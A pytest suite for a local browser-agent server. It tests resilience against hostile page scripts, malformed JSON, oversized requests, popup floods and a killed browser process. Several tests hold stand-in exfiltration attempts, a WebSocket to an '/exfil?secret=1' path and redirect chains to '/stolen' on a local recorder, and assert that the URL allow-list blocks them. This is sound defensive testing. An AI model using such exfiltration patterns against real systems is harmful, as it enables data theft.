"""Hostile pages and bad input against the local server: the task stays readable and usable."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import time
from collections.abc import Iterator
from urllib.parse import urlencode

import httpx2
import pytest

from smooth_agents.local import LocalRuntime
from smooth_agents.local.browser.session import MAX_PAGES
from tests.helpers import (
    GreetingSocketServer,
    HitRecorder,
    SiteServer,
    act,
    make_settings,
    open_session,
    server_with,
    wait_for_status,
)

# Script values that once made every later GET /task/{id} of the task answer 500.
POISON = [
    ("new Date(0)", "1970-01-01T00:00:00+00:00"),
    ("/ab+c/gi", "/ab+c/"),
    ("(() => { const a = {name: 'loop'}; a.self = a; return a })()", {"name": "loop", "self": None}),
    ("'\\u{1F680}'.slice(0, 1)", "\ufffd"),
    ("[NaN, Infinity, -0]", [None, None, 0]),
    ("new Map([[1, 2]])", {}),
]


@pytest.mark.parametrize(("script", "expected"), POISON)
def test_odd_script_values_never_poison_the_task(
    api: httpx2.Client, site: SiteServer, script: str, expected: object
) -> None:
    session = open_session(api, url=site.url("demo/index.html"))
    try:
        result = act(api, session["id"], "browser_action", "evaluate_js", {"js": script})
        assert result["code"] == 200, result
        assert result["output"]["output"] == expected
        assert api.get(f"/task/{session['id']}").status_code == 202  # still readable
        after = act(api, session["id"], "browser_action", "evaluate_js", {"js": "1 + 1"})
        assert after["output"]["output"] == 2  # and usable
    finally:
        api.delete(f"/task/{session['id']}")


def test_a_page_whose_title_is_a_regexp_does_not_poison_a_harmless_call(
    api: httpx2.Client, site: SiteServer
) -> None:
    session = open_session(api, url=site.url("demo/index.html"))
    try:
        act(
            api,
            session["id"],
            "browser_action",
            "evaluate_js",
            {"js": "Object.defineProperty(document, 'title', {get: () => /x/})"},
        )
        result = act(api, session["id"], "browser_action", "evaluate_js", {"js": "document.title"})
        assert result["code"] == 200
        assert api.get(f"/task/{session['id']}").status_code == 202
    finally:
        api.delete(f"/task/{session['id']}")


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 100_000 + b"]" * 100_000,
        b'{"task": null, "max_steps": ' + b"9" * 5_000 + b"}",
    ],
    ids=["deep", "huge-integer"],
)
def test_bad_json_bodies_are_4xx(api: httpx2.Client, body: bytes) -> None:
    response = api.post("/task", content=body, headers={"content-type": "application/json"})
    assert 400 <= response.status_code < 500, response.text
    assert response.json()["detail"]


def test_a_lone_surrogate_in_a_request_is_replaced_not_a_500(api: httpx2.Client) -> None:
    body = b'{"task": "read \\ud800"}'
    response = api.post("/task", content=body, headers={"content-type": "application/json"})
    assert response.status_code == 200, response.text
    task_id = response.json()["r"]["id"]
    final = wait_for_status(api, task_id)
    assert final["status"] == "failed"  # the reader needs a url; the answer itself is fine


@pytest.fixture(scope="module")
def quick(tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx2.Client]:
    """A server whose actions time out after 2 s."""
    with server_with(tmp_path_factory.mktemp("quick"), action_timeout=2.0) as client:
        yield client


@pytest.mark.parametrize("popups", [0, MAX_PAGES], ids=["alone", "with-every-popup-open"])
def test_a_runaway_script_is_stopped_and_the_session_goes_on(
    quick: httpx2.Client, site: SiteServer, popups: int
) -> None:
    session = open_session(quick, url=site.url("demo/index.html"))
    try:
        # With the session's pages at their bound, the blank page that replaces the stuck one
        # must still be made (it was once closed as one popup too many: the session was lost).
        opening = f"() => {{ for (let i = 0; i < {popups}; i++) window.open('about:blank'); return 1 }}"
        assert act(quick, session["id"], "browser_action", "evaluate_js", {"js": opening})["code"] == 200
        started = time.monotonic()
        stuck = act(quick, session["id"], "browser_action", "evaluate_js", {"js": "while (true) {}"})
        assert stuck["code"] == 400
        assert "was stopped" in stuck["output"]
        assert time.monotonic() - started < 15
        # The same site loads again (the stuck page, and its script, are gone), and scripts run.
        landed = act(quick, session["id"], "browser_action", "goto", {"url": site.url("demo/product.html")})
        assert landed["code"] == 200, landed
        title = act(quick, session["id"], "browser_action", "evaluate_js", {"js": "document.title"})
        assert title["output"]["output"] == "Nimbus 14 Pro Laptop | Demo Store"
    finally:
        quick.delete(f"/task/{session['id']}")


def test_websockets_outside_allowed_urls_never_connect(api: httpx2.Client, site: SiteServer) -> None:
    outside, inside = HitRecorder(), GreetingSocketServer()
    try:
        allowed = [f"http://127.0.0.1:{site.port}/**", f"http://127.0.0.1:{inside.port}/**"]
        session = open_session(api, url=site.url("demo/index.html"), allowed_urls=allowed)
        try:
            # No timer of its own: the socket's first message or its end settles the promise, and
            # the action's own timeout bounds a socket that hangs.
            opening = (
                "(url) => new Promise(done => { const s = new WebSocket(url);"
                " s.onmessage = (m) => done('message: ' + m.data);"
                " s.onclose = (e) => done('closed ' + e.code); s.onerror = () => done('error') })"
            )
            answers = [
                act(api, session["id"], "browser_action", "evaluate_js", {"js": opening, "args": url})
                for url in (outside.url("ws", "/exfil?secret=1"), inside.url("ws", "/ok"))
            ]
        finally:
            api.delete(f"/task/{session['id']}")
        assert [answer["code"] for answer in answers] == [200, 200], answers
        assert answers[0]["output"]["output"] == "closed 1008"
        assert outside.hits == 0
        # An allowed socket still connects, and its messages reach the page.
        assert answers[1]["output"]["output"] == f"message: {GreetingSocketServer.GREETING}"
        assert inside.hits == 1
    finally:
        outside.close()
        inside.close()


def redirect(site: SiteServer, to: str) -> str:
    return site.url("redirect") + "?" + urlencode({"to": to})


def test_redirects_are_checked_on_every_hop(api: httpx2.Client, site: SiteServer) -> None:
    outside = HitRecorder()
    try:
        allowed = [f"http://127.0.0.1:{site.port}/**"]
        one_hop = redirect(site, outside.url(path="/stolen"))
        two_hops = redirect(site, redirect(site, outside.url(path="/stolen2")))
        inside = redirect(site, site.url("demo/product.html"))
        session = open_session(api, url=site.url("demo/index.html"), allowed_urls=allowed)
        try:
            for url in (one_hop, two_hops):
                refused = act(api, session["id"], "browser_action", "goto", {"url": url})
                assert refused["code"] == 400, refused
                assert "allowed_urls" in refused["output"]
            fetched = act(
                api, session["id"], "browser_action", "evaluate_js",
                {"js": "(u) => fetch(u).then(r => 'loaded', e => 'refused')", "args": one_hop},
            )  # fmt: skip
            assert fetched["code"] == 200, fetched
            assert fetched["output"]["output"] == "refused"
            landed = act(api, session["id"], "browser_action", "goto", {"url": inside})
            assert landed["code"] == 200, landed
            assert landed["output"]["output"]["url"] == site.url("demo/product.html")  # its true URL
            assert landed["output"]["output"]["title"] == "Nimbus 14 Pro Laptop | Demo Store"
        finally:
            api.delete(f"/task/{session['id']}")
        opened = api.post("/task", json={"task": None, "url": one_hop, "allowed_urls": allowed})
        assert opened.status_code == 400
        task = api.post("/task", json={"task": "read", "url": one_hop, "allowed_urls": allowed}).json()["r"]
        final = wait_for_status(api, task["id"])
        assert final["status"] == "failed"
        assert "allowed_urls" in final["output"]
        assert outside.hits == 0
    finally:
        outside.close()


DEEP_SCHEMA = json.loads('{"type":"object","properties":{"a":' * 450 + "{}" + "}}" * 450)
BAD_REQUESTS: list[tuple[str, str, object]] = [
    ("POST", "/task", {"task": "x", "max_steps": 1e400}),
    (
        "POST",
        "/task",
        {"task": None, "url": "http://127.0.0.1:99999/", "allowed_urls": ["http://127.0.0.1/*"]},
    ),
    ("POST", "/task", {"task": None, "url": "http://127.0.0.1:99999/"}),
    ("POST", "/task", {"task": "x", "url": "http://127.0.0.1/", "response_model": DEEP_SCHEMA}),
    ("GET", "/task/{sid}?wait_ms=inf", None),
    ("GET", "/task/{sid}?event_t=1e400", None),
    ("GET", "/task/{sid}?wait_ms=nan", None),
    ("GET", "/task?l=inf", None),
    ("GET", "/task?t=-1e400", None),
]


@pytest.mark.parametrize(("method", "path", "body"), BAD_REQUESTS)
def test_bad_requests_are_4xx_not_500(api: httpx2.Client, method: str, path: str, body: object) -> None:
    session = open_session(api)
    try:
        content = json.dumps(body).encode() if body is not None else None  # Infinity stays as JSON allows
        response = api.request(
            method,
            path.format(sid=session["id"]),
            content=content,
            headers={"content-type": "application/json"},
        )
        assert 400 <= response.status_code < 500, response.text
        assert response.json()["detail"]
    finally:
        api.delete(f"/task/{session['id']}")


@pytest.fixture(scope="module")
def small(tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx2.Client]:
    """A server with small size limits."""
    small_limits = {"max_request_bytes": 20_000, "max_upload_bytes": 50_000, "max_output_chars": 30_000}
    with server_with(tmp_path_factory.mktemp("small"), **small_limits) as client:
        yield client


def test_request_and_upload_limits_answer_413(small: httpx2.Client) -> None:
    big_task = {"task": "x" * 30_000}
    assert small.post("/task", json=big_task).status_code == 413

    def chunks() -> Iterator[bytes]:  # no Content-Length: counted as it arrives
        yield b'{"task": "'
        for _ in range(10):
            yield b"y" * 5_000
        yield b'"}'

    chunked = small.post("/task", content=chunks(), headers={"content-type": "application/json"})
    assert chunked.status_code == 413
    assert "20,000 bytes" in chunked.json()["detail"]
    too_big = small.post("/file", files={"file": ("big.bin", b"z" * 60_000)})
    assert too_big.status_code == 413
    fits = small.post("/file", files={"file": ("small.bin", b"z" * 30_000)})  # above the JSON limit
    assert fits.status_code == 200, fits.text


def test_an_oversized_result_fails_the_action_not_the_server(small: httpx2.Client, site: SiteServer) -> None:
    session = open_session(small, url=site.url("demo/index.html"))
    try:
        huge = act(small, session["id"], "browser_action", "evaluate_js", {"js": "'x'.repeat(100000)"})
        assert huge["code"] == 400
        assert "max_output_chars" in huge["output"]
        body = small.get(f"/task/{session['id']}").text
        assert len(body) < 20_000  # the oversized value was never kept
        after = act(small, session["id"], "browser_action", "evaluate_js", {"js": "'ok'"})
        assert after["output"]["output"] == "ok"
    finally:
        small.delete(f"/task/{session['id']}")


async def test_popups_are_bounded_and_a_killed_browser_fails_its_tasks(
    tmp_path_factory: pytest.TempPathFactory, site: SiteServer
) -> None:
    settings = make_settings(tmp_path_factory.mktemp("killed"))
    runtime = LocalRuntime(settings)
    await runtime.start()
    try:
        task = await runtime.submit(
            runtime.parse_task_request({"task": None, "url": site.url("demo/index.html")})
        )
        assert task.browser is not None
        # Thirty popups: the page may open MAX_PAGES of them, and the session closes those past
        # MAX_PAGES pages in all (its own page counts) as they come.
        context = task.browser.context
        popups: list[object] = []
        context.on("page", lambda page: popups.append(page))
        await task.browser.evaluate_js("() => { for (let i = 0; i < 30; i++) window.open('about:blank'); }")
        deadline = asyncio.get_running_loop().time() + 30
        while len(popups) < MAX_PAGES or len(context.pages) > MAX_PAGES:
            assert asyncio.get_running_loop().time() < deadline, (len(popups), len(context.pages))
            await asyncio.sleep(0.05)
        assert len(popups) == MAX_PAGES
        assert len(context.pages) == MAX_PAGES
        cdp = await (await runtime.browsers.browser()).new_browser_cdp_session()
        info = await cdp.send("SystemInfo.getProcessInfo")
        browser_pid = next(p["id"] for p in info["processInfo"] if p["type"] == "browser")
        os.kill(browser_pid, signal.SIGKILL)
        for _ in range(100):
            if not task.active:
                break
            await asyncio.sleep(0.1)
        assert task.status == "failed"
        assert "browser stopped" in str(task.output)
    finally:
        await runtime.aclose()
